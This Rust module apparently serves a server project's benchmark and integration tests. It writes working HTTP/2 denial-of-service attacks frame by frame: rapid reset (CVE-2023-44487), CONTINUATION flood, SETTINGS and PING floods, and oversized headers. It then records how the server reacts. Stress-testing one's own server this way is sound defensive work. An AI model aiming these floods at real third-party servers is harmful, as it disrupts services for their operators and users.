//! HTTP/2 abuse, written frame by frame: what an attacker sends, without a client library that
//! would refuse to misbehave. Shared by the `h2-abuse` benchmark and the integration tests.
//!
//! Each attack opens one connection, sends its frames as fast as the socket takes them, and
//! reads what the server answers; it reports whether the server sent GOAWAY (and its error
//! code), closed the connection, or let it be.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The client connection preface.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// The kinds of abuse.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Open a stream and reset it at once, over and over (CVE-2023-44487).
    RapidReset,
    /// One HEADERS frame without END_HEADERS, then CONTINUATION frames forever (CVE-2024-27316
    /// and its siblings).
    ContinuationFlood,
    /// SETTINGS frames without reading the acknowledgements.
    SettingsFlood,
    /// PING frames without reading the acknowledgements.
    PingFlood,
    /// Requests whose metadata is far over the header list limit.
    OversizedHeaders,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Attack; 5] = [
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::SettingsFlood,
        Attack::PingFlood,
        Attack::OversizedHeaders,
    ];

    /// A short name.
    pub fn name(self) -> &'static str {
        match self {
            Attack::RapidReset => "rapid reset",
            Attack::ContinuationFlood => "CONTINUATION flood",
            Attack::SettingsFlood => "SETTINGS flood",
            Attack::PingFlood => "PING flood",
            Attack::OversizedHeaders => "oversized headers",
        }
    }
}

/// How the server treated the offender.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// GOAWAY with this error code (`ENHANCE_YOUR_CALM` is 0xb, `PROTOCOL_ERROR` 0x1, …).
    GoAway(u32),
    /// The connection was closed (or reset) without a GOAWAY the attacker could read.
    Closed,
    /// The connection was still open when the attack ended.
    Open,
}

impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Verdict::GoAway(code) => write!(f, "GOAWAY {}", error_name(*code)),
            Verdict::Closed => f.write_str("closed, no GOAWAY"),
            Verdict::Open => f.write_str("left open"),
        }
    }
}

fn error_name(code: u32) -> String {
    match code {
        0x0 => "NO_ERROR".into(),
        0x1 => "PROTOCOL_ERROR".into(),
        0x2 => "INTERNAL_ERROR".into(),
        0x6 => "FRAME_SIZE_ERROR".into(),
        0x9 => "COMPRESSION_ERROR".into(),
        0xb => "ENHANCE_YOUR_CALM".into(),
        other => format!("{other:#x}"),
    }
}

/// What one attack did.
#[derive(Debug, Clone)]
pub struct Report {
    /// The outcome.
    pub verdict: Verdict,
    /// Frames (or requests, for oversized headers) sent.
    pub sent: u64,
    /// How long until the verdict.
    pub elapsed: Duration,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut out = Vec::with_capacity(9 + len);
    out.extend_from_slice(&[(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK string literal (no Huffman) with a 7-bit length prefix.
fn hpack_string(out: &mut Vec<u8>, value: &[u8]) {
    hpack_int(out, 0x00, 7, value.len());
    out.extend_from_slice(value);
}

fn hpack_int(out: &mut Vec<u8>, flags: u8, prefix_bits: u8, mut value: usize) {
    let max = (1usize << prefix_bits) - 1;
    if value < max {
        out.push(flags | value as u8);
        return;
    }
    out.push(flags | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128 + 128) as u8);
        value /= 128;
    }
    out.push(value as u8);
}

/// A literal header field without indexing, new name.
fn hpack_literal(out: &mut Vec<u8>, name: &[u8], value: &[u8]) {
    out.push(0x00);
    hpack_string(out, name);
    hpack_string(out, value);
}

/// The header block of `POST /grpc.health.v1.Health/Check` (a cheap, real method).
fn request_block(extra: Option<(&[u8], &[u8])>) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    // :path and :authority: literal without indexing, name from the static table (4, 1).
    block.push(0x04);
    hpack_string(&mut block, b"/grpc.health.v1.Health/Check");
    block.push(0x01);
    hpack_string(&mut block, b"localhost");
    hpack_literal(&mut block, b"content-type", b"application/grpc");
    hpack_literal(&mut block, b"te", b"trailers");
    if let Some((name, value)) = extra {
        hpack_literal(&mut block, name, value);
    }
    block
}

/// Connects to `addr` from `source` (an address of this host, e.g. 127.0.0.2), or from the
/// default address.
pub async fn connect_from(addr: SocketAddr, source: Option<std::net::IpAddr>) -> std::io::Result<TcpStream> {
    let Some(source) = source else { return TcpStream::connect(addr).await };
    let socket =
        if source.is_ipv4() { tokio::net::TcpSocket::new_v4()? } else { tokio::net::TcpSocket::new_v6()? };
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(addr).await
}

/// Runs `attack` against `addr` for at most `duration`, from `source` (see [`connect_from`]).
pub async fn run(
    attack: Attack,
    addr: SocketAddr,
    source: Option<std::net::IpAddr>,
    duration: Duration,
) -> std::io::Result<Report> {
    let stream = connect_from(addr, source).await?;
    stream.set_nodelay(true)?;
    let (mut reader, mut writer) = stream.into_split();
    let start = Instant::now();
    // The reader looks for GOAWAY and notices the close; the attack writes until then.
    let watcher = tokio::spawn(async move {
        let mut buf = Vec::new();
        let mut chunk = vec![0u8; 64 << 10];
        loop {
            match reader.read(&mut chunk).await {
                Ok(0) | Err(_) => return Verdict::Closed,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
            // Parse complete frames; keep the rest.
            let mut at = 0;
            while buf.len() >= at + 9 {
                let len =
                    (usize::from(buf[at]) << 16) | (usize::from(buf[at + 1]) << 8) | usize::from(buf[at + 2]);
                if buf.len() < at + 9 + len {
                    break;
                }
                if buf[at + 3] == GOAWAY && len >= 8 {
                    let p = &buf[at + 9..];
                    return Verdict::GoAway(u32::from_be_bytes([p[4], p[5], p[6], p[7]]));
                }
                at += 9 + len;
            }
            buf.drain(..at);
        }
    });
    let mut sent = 0u64;
    let mut setup = PREFACE.to_vec();
    setup.extend(frame(SETTINGS, 0, 0, &[]));
    let deadline = start + duration;
    let result: std::io::Result<()> = async {
        writer.write_all(&setup).await?;
        match attack {
            Attack::RapidReset => {
                let block = request_block(None);
                let mut stream = 1u32;
                let mut batch = Vec::new();
                while Instant::now() < deadline && !watcher.is_finished() {
                    batch.clear();
                    for _ in 0..64 {
                        batch.extend(frame(HEADERS, END_HEADERS, stream, &block));
                        batch.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())); // CANCEL
                        stream = stream.wrapping_add(2);
                        sent += 2;
                    }
                    writer.write_all(&batch).await?;
                }
            }
            Attack::ContinuationFlood => {
                let mut first = request_block(None);
                hpack_literal(&mut first, b"x-pad-0", b"pad");
                writer.write_all(&frame(HEADERS, 0, 1, &first)).await?;
                sent += 1;
                let mut block = Vec::new();
                for i in 0..16 {
                    hpack_literal(&mut block, format!("x-pad-{i}").as_bytes(), &[b'a'; 1000]);
                }
                let continuation = frame(CONTINUATION, 0, 1, &block);
                while Instant::now() < deadline && !watcher.is_finished() {
                    writer.write_all(&continuation).await?;
                    sent += 1;
                }
            }
            Attack::SettingsFlood => {
                // SETTINGS_INITIAL_WINDOW_SIZE = 65535: harmless values, each one to acknowledge.
                let settings = frame(SETTINGS, 0, 0, &[0x00, 0x04, 0x00, 0x00, 0xff, 0xff]);
                let batch: Vec<u8> = std::iter::repeat_n(settings, 256).flatten().collect();
                while Instant::now() < deadline && !watcher.is_finished() {
                    writer.write_all(&batch).await?;
                    sent += 256;
                }
            }
            Attack::PingFlood => {
                let ping = frame(PING, 0, 0, &[1, 2, 3, 4, 5, 6, 7, 8]);
                let batch: Vec<u8> = std::iter::repeat_n(ping, 256).flatten().collect();
                while Instant::now() < deadline && !watcher.is_finished() {
                    writer.write_all(&batch).await?;
                    sent += 256;
                }
            }
            Attack::OversizedHeaders => {
                // 64 KiB of metadata against a 16 KiB limit, split over CONTINUATION frames
                // (each frame within the 16 KiB default frame size), on stream after stream.
                let huge = vec![b'h'; 64 << 10];
                let block = request_block(Some((b"x-huge", &huge)));
                let mut stream = 1u32;
                while Instant::now() < deadline && !watcher.is_finished() {
                    let mut chunks = block.chunks(16 << 10).peekable();
                    let mut kind = HEADERS;
                    while let Some(chunk) = chunks.next() {
                        let last = chunks.peek().is_none();
                        let flags = if last { END_HEADERS } else { 0 };
                        writer.write_all(&frame(kind, flags, stream, chunk)).await?;
                        kind = CONTINUATION;
                    }
                    writer.write_all(&frame(DATA, END_STREAM, stream, &[0, 0, 0, 0, 0])).await?;
                    sent += 1;
                    stream = stream.wrapping_add(2);
                }
            }
        }
        Ok(())
    }
    .await;
    // A write error means the server closed the connection; let the reader report how.
    let verdict = if result.is_err() || watcher.is_finished() {
        tokio::time::timeout(Duration::from_secs(2), watcher)
            .await
            .ok()
            .and_then(Result::ok)
            .unwrap_or(Verdict::Closed)
    } else {
        watcher.abort();
        Verdict::Open
    };
    Ok(Report { verdict, sent, elapsed: start.elapsed() })
}
